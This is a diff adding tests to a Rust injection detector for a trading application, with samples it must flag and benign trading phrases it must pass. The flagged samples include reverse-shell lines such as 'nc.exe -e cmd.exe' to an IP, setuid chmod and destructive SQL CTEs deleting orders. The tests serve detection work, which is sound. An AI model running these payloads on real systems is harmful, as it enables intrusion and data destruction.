@@ -1447,6 +1447,16 @@ fn review_hunt_shapes() {
     );
 }
 
+/// A value that joins one long variable many times (`;a=iiii...;$a$a$a...`) is judged without
+/// building the joined word (it was quadratic in memory: one 80 kB value took 1.6 GB).
+#[test]
+fn assembled_command_is_bounded() {
+    let n = 200_000;
+    let v = format!(";a={};{}", "i".repeat(n), "$a".repeat(n / 2));
+    let r = check(&v, Context::Auto);
+    assert!(r.findings.iter().all(|f| f.rule_id != "cmdi.separator_command"), "{:?}", r.findings.iter().map(|f| f.rule_id).collect::<Vec<_>>());
+}
+
 /// Shapes of the session after: statements of any keyword between a breakout and a comment, a
 /// CTE that writes, sensitive files wherever they are, SSRF URL schemes, a shell named by a
 /// variable, empty expansions inside a command word, PowerShell cmdlets, programs run from a
@@ -1463,6 +1473,9 @@ fn second_hunt_shapes() {
             "'; WITH d AS (DELETE FROM orders RETURNING *) SELECT 1",
             "1; WITH x AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM x",
             "' UNIunionON SELselectECT 1,2--",
+            "'; WITH \"d\" AS (DELETE FROM orders RETURNING *) SELECT 1",
+            "'; WITH d(x) AS (DELETE FROM orders RETURNING id) SELECT 1",
+            "'; WITH d AS MATERIALIZED (DELETE FROM orders RETURNING *) SELECT 1",
             "-1 uniUNIONon selSELECTect password frFROMom users",
         ],
         Class::Sqli,
@@ -1518,6 +1531,19 @@ fn second_hunt_shapes() {
             "& C:\\Windows\\Temp\\nc.exe -e cmd.exe 10.10.14.5 4444",
             "--upload-pack=touch /tmp/pwn",
             "--use-compress-program=id",
+            // (the review's variants)
+            ";\"$0\" -c id",
+            ";${SHELL:-/bin/sh} -c id",
+            ";$0<<<id",
+            "&%ComSpec%/c whoami",
+            ";chmod +xs /tmp/x",
+            ";chmod a+rwx /tmp/x",
+            "1.2.3.4 4444 -e /bin/sh",
+            "x -exec /bin/sh -c id",
+            ";a=i;$HOME;b=d;$a$b",
+            ";a=i b=d;$a$b",
+            ";a=i;b=d;\"$a$b\"",
+            "| Get-Process",
         ],
         Class::Cmdi,
     );
@@ -1540,8 +1566,44 @@ fn second_hunt_shapes() {
             "whoami on the server returns 'trader', not root",
             "curl of the yield curve",
             "Selectselect button twice",
+            // (the review's: prices, order types, accounting words, report files, support notes)
+            "Fees: $5 stocks; $0 options",
+            "Commission & $0 fees",
+            "| Commission | $0 |",
+            "Fee waived; $0",
+            "Buy AAPL @150; stop-loss",
+            "Sell 100 TSLA; stop-limit $240",
+            "Order type | stop-limit | GTC",
+            "Margin call; stop-out $5000",
+            "Bad debt; write-off $500",
+            "Data feed; add-on $5/month",
+            "Client onboarding; set-up",
+            "Export done; /tmp/eod_2024.csv",
+            "See attachment; ./q3_report.pdf",
+            "Call back; query user re: failed margin call",
+            "Settings; export path=/reports/eod",
+            "Per the clients'; show chart tomorrow -- JB",
+            "Checked the clients'; update tomorrow -- JB",
+            "5'; set stop 4'6 -- JB",
             "東京 union 株式",
         ],
         Context::Auto,
     );
+}
+
+/// Every rule id the detectors can report is listed in `rules()` (`tradeguard.injection_rules`):
+/// a finding never names a rule the view does not describe.
+#[test]
+fn every_reported_rule_is_listed() {
+    let sources = [include_str!("sqli.rs"), include_str!("xss.rs"), include_str!("cmdi.rs"), include_str!("traversal.rs"), include_str!("mod.rs")];
+    let id = regex::Regex::new(r#""((?:sqli|xss|cmdi|traversal)\.[a-z_]+)""#).unwrap();
+    let listed: std::collections::HashSet<&str> = rules().iter().map(|r| r.id).collect();
+    let mut seen = 0;
+    for src in sources {
+        for c in id.captures_iter(src) {
+            seen += 1;
+            assert!(listed.contains(&c[1]), "rule {} is reported but not listed in rules()", &c[1]);
+        }
+    }
+    assert!(seen > 50, "only {seen} rule ids found in the sources");
 }
